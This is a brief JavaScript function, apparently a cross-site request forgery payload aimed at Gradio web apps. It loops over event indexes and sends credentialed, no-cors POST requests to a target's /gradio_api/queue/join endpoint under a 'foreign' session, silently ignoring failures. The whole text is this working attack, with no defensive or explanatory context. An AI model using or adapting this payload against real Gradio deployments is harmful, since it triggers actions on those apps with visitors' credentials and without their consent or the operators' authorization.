// Send every event of the page.
async ({ target, events }) => {
    for (let each = 0; each < events; each++) {
        const body = JSON.stringify({ fn_index: each, data: [], session_hash: "foreign" });
        const sent = { method: "POST", mode: "no-cors", credentials: "include", body };
        sent.signal = AbortSignal.timeout(15_000);
        await fetch(`${target}/gradio_api/queue/join`, sent).catch(() => null);
    }
}
